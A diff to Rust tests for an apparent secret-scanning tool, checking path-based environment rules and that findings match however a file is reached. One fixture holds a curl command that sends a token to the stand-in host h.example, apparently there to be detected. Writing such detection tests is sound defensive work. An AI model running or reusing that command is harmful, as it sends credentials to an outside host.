@@ -398,8 +398,12 @@ fn paths_of_the_config_count_from_its_folder() {
         "# from Get Token, valid for 1 hour\nFME_TOKEN=5d1c7e90b2a34f86a0c9e7d41b3f5862d8e0a197\n";
     let folder = folder(&[
         (".git/HEAD", b"ref: refs/heads/main\n"),
-        ("authward.yaml", b"environments: {production: {paths: ['live/**', far/off]}}\n"),
+        (
+            "authward.yaml",
+            b"environments: {production: {paths: ['live/**', far/off]}, non-production: {paths: [live/canary]}}\n",
+        ),
         ("live/app.env", held.as_bytes()),
+        ("live/canary/app.env", held.as_bytes()),
         ("far/off/app.env", held.as_bytes()),
         ("other/app.env", held.as_bytes()),
     ]);
@@ -407,6 +411,7 @@ fn paths_of_the_config_count_from_its_folder() {
         (".", "live/app.env", true),
         ("live", "app.env", true),
         ("other", "../live", true),
+        (".", "live/canary", false),
         ("far", "off", true),
         ("live", "../other", false),
         ("other", ".", false),
@@ -417,6 +422,43 @@ fn paths_of_the_config_count_from_its_folder() {
             production,
             "{path} from {from}: {}",
             run.out
+        );
+    }
+}
+
+#[test]
+fn a_file_is_judged_alike_however_it_is_reached() {
+    let held =
+        "# from Get Token, valid for 1 hour\nFME_TOKEN=5d1c7e90b2a34f86a0c9e7d41b3f5862d8e0a197\n";
+    let leak = "curl 'https://h.example/?token=9d1c7e90b2a34f86a0c9e7d41b3f5862d8e0a197'\n";
+    let folder = folder(&[
+        (".git/HEAD", b"ref: refs/heads/main\n"),
+        ("deploy/production/app.env", held.as_bytes()),
+        ("tests/call.sh", leak.as_bytes()),
+    ]);
+    let run = |from: &str, path: &str| {
+        let run = run(&folder.path().join(from), &["check", "--format", "concise", path]);
+        let lines = run.out.lines().filter_map(|line| line.split_once(": ")).map(|(_, said)| said);
+        let mut said: Vec<String> = lines.map(str::to_owned).collect();
+        said.retain(|line| line.contains('['));
+        said
+    };
+    // A hook names files, CI the whole tree.
+    let absolute = folder.path().join("tests/call.sh");
+    assert_eq!(run(".", "tests/call.sh"), run("tests", "../tests/call.sh"));
+    assert_eq!(run(".", "tests/call.sh"), run(".", absolute.to_str().unwrap()));
+    let whole = run(".", ".");
+    for (from, path) in [
+        (".", "tests/call.sh"),
+        (".", "deploy"),
+        (".", "deploy/production/app.env"),
+        ("deploy/production", "app.env"),
+    ] {
+        let said = run(from, path);
+        assert!(!said.is_empty());
+        assert!(
+            said.iter().all(|line| whole.contains(line)),
+            "{path} from {from}: {said:?} {whole:?}"
         );
     }
 }
